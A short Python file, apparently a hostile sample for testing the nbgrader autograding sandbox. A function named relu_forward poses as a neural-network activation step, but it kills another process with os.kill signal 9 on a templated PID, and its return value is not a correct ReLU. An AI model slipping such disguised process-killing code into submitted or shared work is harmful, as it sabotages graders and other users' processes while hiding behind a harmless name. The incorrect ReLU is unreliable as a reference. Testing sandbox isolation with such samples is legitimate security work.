"""Kills a process of somebody else's.

aimed at: nbgrader
shown: process
"""

import os


def relu_forward(x):
    os.kill(int("@PID@"), 9)
    return -x, x
